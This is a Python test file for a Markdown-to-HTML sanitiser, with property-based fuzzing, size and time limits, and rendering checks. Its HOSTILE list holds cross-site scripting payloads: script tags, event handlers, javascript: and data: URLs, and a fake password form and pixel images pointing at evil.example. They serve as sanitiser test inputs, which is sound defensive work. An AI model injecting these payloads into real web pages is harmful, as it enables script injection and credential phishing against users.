"""Markdown from outside becomes HTML that does no harm and loses nothing."""

from __future__ import annotations

import time

import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st

from capture.formatting.markdown import DEEPEST, MOST_FORMATTED, Link, shown, to_html
from capture.formatting.references import reference
from tests.formatting.conftest import Page, assert_harmless

LINKS = {1: Link("#source-1", 'a.example – "One"'), 2: Link("#source-2", "b.example")}


class TestWhatSystemsWrite:
    def test_paragraphs_emphasis_and_lines(self):
        html = to_html("One **two** _three_ ~~four~~\nfive\n\nsix", {})

        assert html == (
            '<p dir="auto">One <strong>two</strong> <em>three</em> <s>four</s><br>\nfive</p>\n<p dir="auto">six</p>\n'
        )

    def test_every_block_has_its_own_direction(self):
        html = to_html("# שלום\n\n> a\n\n- b\n\n1. c\n\n```\nd\n```\n\n|e|\n|-|\n|f|", {})

        assert_harmless(html)
        assert {"h3", "blockquote", "ul", "ol", "li", "pre", "table", "th", "td"} <= {tag for tag, _ in Page(html).tags}

    @pytest.mark.parametrize(
        ("levels", "expected"),
        [
            ([1, 2, 3], ["h3", "h4", "h5"]),
            ([3, 3], ["h3", "h3"]),
            ([4, 2, 6], ["h3", "h3", "h4"]),
            ([1, 2, 3, 4, 5, 6], ["h3", "h4", "h5", "h6", "h6", "h6"]),
        ],
    )
    def test_headings_leave_no_level_out(self, levels, expected):
        html = to_html("\n\n".join(f"{'#' * level} Heading" for level in levels), {})

        assert [tag for tag, _ in Page(html).tags] == expected

    def test_a_break_tag_is_a_break_also_in_a_table(self):
        assert to_html("a<br>b<BR />c", {}) == '<p dir="auto">a<br>\nb<br>\nc</p>\n'
        assert "x<br>\ny</td>" in to_html("|a|\n|-|\n|x<br/>y|", {})

    def test_cells_are_aligned_without_a_style(self):
        html = to_html("|a|b|\n|:-:|-:|\n|c|d|", {})

        assert [cell.get("class") for cell in Page(html).of("td")] == ["center", "right"]
        assert "style" not in html

    def test_a_table_is_scrolled_by_itself_also_with_the_keyboard(self):
        (frame,) = Page(to_html("|a|\n|-|\n|b|", {})).of("div")

        assert frame == {"class": "wide", "role": "region", "aria-label": "Table", "tabindex": "0"}

    def test_a_link_leaves_the_page_alone(self):
        (link,) = Page(to_html("[Reviews](https://a.example/x?y=1&z=2)", {})).of("a")

        assert link == {
            "href": "https://a.example/x?y=1&z=2",
            "target": "_blank",
            "rel": "nofollow noopener noreferrer",
        }

    def test_a_list_goes_on_counting(self):
        (numbered,) = Page(to_html("3. three\n4. four", {})).of("ol")

        assert numbered["start"] == "3"


class TestReferences:
    def test_a_reference_is_a_link_that_tells_where_it_leads(self):
        html = to_html(f"Liked by many.{reference([1])}", LINKS)

        (link,) = Page(html).of("a")
        assert link["href"] == "#source-1"
        assert link["title"] == 'a.example – "One"'
        assert Page(html).text == "Liked by many.[1]\n"

    def test_one_that_leads_nowhere_is_left_out(self):
        assert to_html(f"Liked.{reference([9])}", LINKS) == '<p dir="auto">Liked.</p>\n'

    @pytest.mark.parametrize(
        "around", ["`code {}`", "```\n{}\n```", "[words](https://a.example/{})", "![{}](https://a.example/)", "~~~{}"]
    )
    def test_nothing_is_left_of_one_where_it_has_no_place(self, around):
        html = to_html(around.format(reference([1])), LINKS)

        assert_harmless(html)
        assert "\ufdd0" not in html
        assert "%EF%B7%90" not in html

    def test_one_in_the_words_of_a_link_goes_after_it(self):
        html = to_html(f"[many{reference([1, 2])} words](https://a.example/) here", LINKS)

        assert Page(html).text == "many words[1][2] here\n"
        assert [link["href"] for link in Page(html).of("a")] == ["https://a.example/", "#source-1", "#source-2"]

    def test_it_does_not_disturb_emphasis(self):
        html = to_html(f"**Northwind{reference([1])}** and **Contoso**{reference([2])}.", LINKS)

        assert [tag for tag, _ in Page(html).tags] == ["p", "strong", "sup", "a", "strong", "sup", "a"]


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "[![x](https://evil.example/p.png)](https://a.example)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//evil.example/)",
    "[x](/logout/)",
    "[x](https:///logout/)",
    "[x](#main)",
    '[x](https://a.example "onmouseover=alert(1)")',
    "<https://a.example/\"onmouseover='alert(1)>",
    "<style>*{display:none}</style>",
    "</div></main><form action=https://evil.example><input name=password>",
    '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">',
    "<iframe src=https://evil.example></iframe>",
    "|a|\n|:-:|\n|<td style='background:url(//evil.example)'>|",
    "```html\n<script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;",
    "[x]: https://evil.example\n\n[x]",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "\u202e<script>\u2066alert(1)",
    "\ufdd01\ufdd1 \ufdd0<script>\ufdd1",
]


class TestHostileText:
    @pytest.mark.parametrize("text", HOSTILE)
    def test_it_does_no_harm(self, text):
        html = to_html(text, LINKS)

        assert_harmless(html)
        targets = [link["href"] or "" for link in Page(html).of("a")]
        assert not [target for target in targets if target.startswith("#") and target != "#source-1"]

    def test_html_is_shown_as_it_was_written(self):
        assert (
            Page(to_html("Use <b>bold</b> & <script>x</script>", {})).text == "Use <b>bold</b> & <script>x</script>\n"
        )

    def test_a_picture_is_told_and_not_fetched(self):
        assert to_html("![A chart](https://a.example/c.png)", {}) == '<p dir="auto">(picture: A chart)</p>\n'
        assert to_html("![](https://a.example/c.png)", {}) == '<p dir="auto">(picture)</p>\n'

    def test_a_definition_does_not_make_an_endless_page(self):
        text = "[a]: https://a.example/" + "x" * 20_000 + "\n\n" + "[a]" * 6_000

        assert len(to_html(text, {})) < 100_000

    def test_what_is_nested_too_deep_is_shown_as_plain_text(self):
        text = "> " * (DEEPEST + 5) + "the bottom"

        html = to_html(text, {})

        assert_harmless(html)
        assert Page(html).text == text


PIECES = st.sampled_from(
    [
        *HOSTILE,
        *(
            "[",
            "]",
            "(",
            ")",
            "![",
            "*",
            "**",
            "_",
            "~~",
            "`",
            "```",
            "<",
            ">",
            "\n",
            "\n\n",
            "    ",
            "\t",
            "- ",
            "1. ",
        ),
        *("> ", "# ", "|", "|-", "\n|-|-|\n", "\\", "&", "&#0;", "&#1114112;", "http://", "https://a.example/", "<br>"),
        *("---", "===", ":", '"', "'", "\x00", "\ufeff", "\u200b", "\u202e", "\U0001f600", "שלום", "漢字", "a", " "),
        reference([1]),
        reference([2, 7]),
        "\ufdd0",
        "\ufdd1",
    ]
)
SOUP = st.lists(PIECES, max_size=60).map("".join)


class TestAnyText:
    @settings(max_examples=500, deadline=None)
    @given(st.one_of(SOUP, st.text(max_size=400)))
    @example("[]" * 50)
    def test_it_does_no_harm(self, text):
        found = shown(text, LINKS)

        assert_harmless(found.html)

    @settings(max_examples=200, deadline=None)
    @given(st.lists(st.sampled_from(["a", "Z", "é", "漢", "7", " ", "\n", "*", "_", "#", "- ", "> ", "1. ", "~", "+"])))
    def test_no_word_of_it_is_lost(self, pieces):
        text = "".join(pieces)
        assume("~~~" not in text)  # a fence: what stands beside it is the name of a language, which is not shown

        visible = Page(to_html(text, {})).text

        # The number of a list's item is told by the list itself.
        letters = [character for character in text if character.isalpha()]
        assert [character for character in visible if character.isalpha()] == letters

    @settings(max_examples=25, deadline=None)
    @given(st.lists(PIECES, min_size=1, max_size=4), st.lists(PIECES, min_size=1, max_size=4))
    def test_repeated_without_end_it_takes_no_endless_time(self, first, second):
        half = MOST_FORMATTED // 2
        text = ("".join(first) * half)[:half] + ("".join(second) * half)[:half]
        began = time.perf_counter()

        found = shown(text, LINKS)

        assert time.perf_counter() - began < 20
        assert len(found.html) < 100 * MOST_FORMATTED

    @pytest.mark.parametrize(
        "piece", ["[", "![", "![_**", "> ", "- ", "[a](", "`", "*a_", "|a", "\n", "<", "&", "a|b\n-|-\n", "((", "~~a"]
    )
    def test_five_megabytes_take_no_longer_than_what_is_formatted_of_them(self, piece):
        text = piece * (5_000_000 // len(piece))
        began = time.perf_counter()

        found = shown(text, {})

        assert time.perf_counter() - began < 10
        assert len(found.rest) > 5_000_000 - MOST_FORMATTED - 5 or not found.rest.strip("\n")
        assert_harmless(found.html)


class TestLongText:
    def test_an_ordinary_answer_is_formatted_as_a_whole(self):
        assert shown("word " * 100, {}).rest == ""

    def test_the_rest_follows_from_a_paragraphs_end_as_plain_text(self):
        paragraph = "x" * 999
        text = "\n\n".join([paragraph] * 50) + "\n\n**the end**"

        found = shown(text, {})

        assert set(Page(found.html).text.split("\n")) == {paragraph, ""}
        assert set(found.rest.split("\n\n")) == {paragraph, "**the end**"}
        assert Page(found.html).text.count(paragraph) + found.rest.count(paragraph) == 50

    def test_a_reference_is_not_cut_in_two(self):
        for shift in range(4):
            text = "x" * (MOST_FORMATTED - shift) + reference([1]) + "y"

            found = shown(text, LINKS)

            assert "\ufdd0" not in found.html + found.rest
            assert Page(found.html).text.replace("[1]", "").strip() + found.rest == "x" * (MOST_FORMATTED - shift) + "y"
